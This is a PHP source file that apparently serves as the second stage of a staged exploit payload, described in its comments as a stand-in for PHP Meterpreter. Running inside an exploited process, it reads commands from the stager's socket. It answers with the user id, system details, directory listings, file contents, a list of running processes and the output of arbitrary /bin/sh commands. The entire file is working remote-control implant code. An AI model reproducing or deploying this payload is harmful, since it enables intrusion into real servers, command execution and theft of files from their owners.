<?php
// Second stage of the staged payload (a stand-in for PHP Meterpreter): runs in the
// exploited process, reads one command a line from the stager's socket $s, answers on it.
// Commands: getuid, sysinfo, pwd, ls DIR, cat FILE, ps, download FILE, shell CMD, exit.
while (($line = fgets($s)) !== false) {
  $line = trim($line);
  [$cmd, $arg] = array_pad(explode(' ', $line, 2), 2, '');
  switch ($cmd) {
    case 'getuid': $out = 'uid=' . getmyuid() . ' pid=' . getmypid(); break;
    case 'sysinfo': $out = php_uname() . ' ' . gethostname(); break;
    case 'pwd': $out = getcwd(); break;
    case 'ls': $out = implode("\n", array_map(fn($f) => sprintf('%o %s', @fileperms("$arg/$f"), $f), scandir($arg) ?: [])); break;
    case 'cat': case 'download': $out = (string) @file_get_contents($arg); break;
    case 'ps':
      $out = '';
      foreach (scandir('/proc') as $p) if (ctype_digit($p)) $out .= $p . ' ' . trim((string) @file_get_contents("/proc/$p/comm")) . "\n";
      break;
    case 'shell':
      $proc = proc_open(['/bin/sh', '-c', $arg], [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
      $out = stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]);
      proc_close($proc);
      break;
    case 'exit': exit(0);
    default: $out = "unknown command $cmd";
  }
  fwrite($s, strlen($out) . "\n" . $out);
}
